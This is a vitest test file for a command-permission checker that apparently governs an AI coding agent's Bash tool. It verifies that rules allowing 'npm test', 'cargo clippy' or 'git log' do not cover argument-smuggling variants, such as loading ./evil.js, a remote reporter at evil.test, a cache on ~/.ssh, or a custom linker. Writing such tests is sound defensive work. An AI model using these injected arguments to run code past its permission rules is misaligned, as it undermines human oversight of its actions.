import { coversCall, suggestCallRules } from '@parleyhq/claude-tools';
import { expect, test } from 'vitest';
import { isCoveredBy, isKnown, suggestPrefix } from './prefix-rule.ts';

const folder = '/project/app';

test.each([
  ['cargo clippy', 'cargo clippy -- --codegen linker=/tmp/evil --emit=link=/tmp/o'],
  ['cargo clippy', 'cargo clippy -- -C linker=evil'],
  ['cargo clippy', 'cargo clippy -- @arguments'],
  ['cargo clippy', 'cargo clippy --fix --allow-dirty'],
  ['cargo build', 'cargo build --target=spec.json'],
  ['cargo build', 'cargo build --artifact-d=/tmp'],
  ['cargo test', 'cargo test -- --logfile=/tmp/x'],
  ['cargo test', 'cargo test -p ../other'],
  ['npm test', 'npm test --cache=/home/ann/.ssh'],
  ['npm test', 'npm test --tmp x'],
  ['npm test', 'npm test /tmp/evil.test.js'],
  ['npm test', 'npm test ../other/evil.test.js'],
  ['npm test', 'npm test -- ..'],
  ['npm test', "npm test -- '~/evil.test.js'"],
  ['npm test', 'npm test -- --setup=/tmp/evil.js'],
  ['npm test', 'npm test -- -g/tmp/evil.js'],
  ['npm test', 'npm test -- -t=/tmp/evil.js'],
  ['npm test', 'npm test -- --setup src/../../evil.js'],
  ['npm test', 'npm test -- --import=data:text/javascript,1'],
  ['npm test', 'npm test -- --require ./evil.js'],
  ['npm test', 'npm test -- -r ./evil.js'],
  ['npm test', 'npm test -- --config evil.config.js'],
  ['npm test', 'npm test -- -c evil.config.js'],
  ['npm test', 'npm test -- --prefix evil'],
  ['npm test', 'npm test -- --run deploy'],
  ['npm test', 'npm test -- --reporter ./evil.js'],
  ['npm test', 'npm test -- -- --require=./evil.js'],
  ['npm test', "npm test -- -e 'process.exit()'"],
  ['npm test', 'npm test -- --reporter=https://evil.test/x.js'],
  ['npm run lint', 'npm run lint -- --resolve-plugins-relative-to=evil'],
  ['pnpm test', 'pnpm test --use-node-version=1'],
  ['pnpm test', 'pnpm test --pnpmfile=x.cjs'],
  ['pnpm test', 'pnpm test --config.script-shell=x'],
  ['yarn test', 'yarn test --modules-folder x'],
  ['git log', 'git log --show-signature'],
  ['git log', 'git log --format=%GS'],
  ['git log', "git log '--pretty=tformat:%h %+G?'"],
  ['git show', 'git show --form=%GK'],
  ['git log', 'git log --show-sig'],
])('[APR7, LESS2] a rule for %j does not cover %j', (allowed, command) => {
  const [rule] = suggestPrefix([{ command: allowed, folder }]);
  const [bash] = suggestCallRules('Bash', [{ command: allowed }], { withFiles: true });
  expect(isCoveredBy(rule as never, { command: allowed, folder })).toBe(true);
  expect(coversCall(bash as never, 'Bash', { command: allowed })).toBe(true);
  expect(isCoveredBy(rule as never, { command, folder })).toBe(false);
  expect(coversCall(bash as never, 'Bash', { command })).toBe(false);
  expect(isKnown({ command })).toBe(false);
});

test.each([
  ['cargo clippy', 'cargo clippy --all-targets --workspace -- -D warnings'],
  ['cargo test', 'cargo test -p core --release parses -- --nocapture'],
  ['npm test', 'npm test -- -t "a name" --coverage src/a.test.ts'],
  ['npm run lint', 'npm run lint --silent -- --fix src ./docs'],
])('[APR7, LESS2] a rule for %j covers %j', (allowed, command) => {
  const [rule] = suggestPrefix([{ command: allowed, folder }]);
  expect(isCoveredBy(rule as never, { command, folder })).toBe(true);
});
